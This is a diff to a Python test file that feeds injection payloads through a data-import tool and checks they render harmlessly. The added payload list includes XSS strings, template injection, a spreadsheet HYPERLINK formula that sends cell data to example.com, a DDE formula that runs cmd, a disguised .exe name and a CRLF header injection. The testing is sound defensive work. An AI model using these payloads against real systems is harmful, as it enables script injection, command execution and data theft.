@@ -1,7 +1,8 @@
 """Naughty strings and injection payloads as cells, headers and file names, through real jobs. Source: X-09, X-20.
 
 On pages they are text and nothing else; in files that people open in spreadsheets no cell begins a formula; the
-original comes back byte for byte. The corpora lie beside the repository (`../shared/corpora`).
+original comes back byte for byte. The corpora lie beside the repository (`../shared/corpora`); where they don't, a
+handful of the worst stands for them.
 """
 
 from __future__ import annotations
@@ -20,13 +21,26 @@ import pytest
 from fastapi.testclient import TestClient
 
 from include.importing.jobs import JobResult
-from include.importing.mapping import Column, How
+from include.importing.mapping import Column, ColumnMapping, How
 
 pytestmark = pytest.mark.dags
 
 CORPORA = Path(__file__).parents[4] / "shared" / "corpora" / "derived"
-if not CORPORA.is_dir():
-    pytest.skip(f"The public corpora are not at {CORPORA}.", allow_module_level=True)
+WORST = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</bdi></table><a href=javascript:alert(1)>here</a>",
+    "javascript:alert(1)",
+    "' onmouseover='alert(1)",
+    "{{ 7 * 7 }}{% raw %}",
+    '=HYPERLINK("http://example.com?"&A1,"here")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u202egpj.exe",
+    "a\r\nSet-Cookie: b=c",
+)
+"""What is tried also where the corpora are not."""
+
+EMAIL_HEADED = ColumnMapping((Column(0, "Email", "email", How.EXACT),))
 
 Browse = Callable[[str | None], TestClient]
 Load = Callable[..., JobResult]
@@ -38,6 +52,9 @@ NAMES = 30
 LONGEST_NAME_BYTES = 200
 
 
+ADDRESSES = ("href", "src", "action", "hx-get")
+
+
 class _Page(HTMLParser):
     """Collects the elements of a page, and the texts of those that hold what a sender chose."""
 
@@ -45,12 +62,14 @@ class _Page(HTMLParser):
         super().__init__()
         self.tags: set[str] = set()
         self.attributes: set[str] = set()
+        self.addresses: set[str] = set()
         self.chosen: list[str] = []
         self._is_chosen = False
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.tags.add(tag)
         self.attributes |= {name for name, _ in attrs}
+        self.addresses |= {str(value) for name, value in attrs if name in ADDRESSES}
         if tag == "bdi":
             self._is_chosen = True
             self.chosen.append("")
@@ -64,16 +83,18 @@ class _Page(HTMLParser):
 
 
 def parse(text: str) -> _Page:
+    """Read a page, every address of which must be one of ours."""
     page = _Page()
     page.feed(text)
     page.close()
+    assert {address for address in page.addresses if not re.match("/(imports|dags)/|/$|$|#", address)} == set()
     return page
 
 
 def payloads() -> list[str]:
     """Every naughty string and payload once."""
-    found: dict[str, None] = {}
-    for name in FILES:
+    found: dict[str, None] = dict.fromkeys(WORST)
+    for name in FILES if CORPORA.is_dir() else ():
         with (CORPORA / name).open(encoding="utf-8-sig", newline="") as stream:
             found |= dict.fromkeys(row["FirstName"] for row in csv.DictReader(stream))
     return [text for text in found if text and "\0" not in text]
@@ -95,6 +116,8 @@ def harmless(load: Load, browse: Browse) -> _Page:
 def test_the_corpora_as_they_are_make_harmless_pages_and_come_back_unchanged(
     browse: Browse, load: Load, name: str
 ) -> None:
+    if not CORPORA.is_dir():
+        pytest.skip(f"The public corpora are not at {CORPORA}.")
     content = (CORPORA / name).read_bytes()
     told = load("customers", name, content)
     browser = browse("viewer")
@@ -152,7 +175,7 @@ def test_hostile_headers_are_text(browse: Browse, load: Load) -> None:
         assert page.attributes <= plain.attributes
         start = page.chosen.index("Email")
         shown += page.chosen[start + 1 : start + 1 + len(headers)]
-    expected = [Column(0, text.strip(), None, How.UNMATCHED).shown() or "(no name)" for text in texts]
+    expected = [EMAIL_HEADED.shown(Column(0, text.strip(), None, How.UNMATCHED)) for text in texts]
     assert shown == expected
 
 
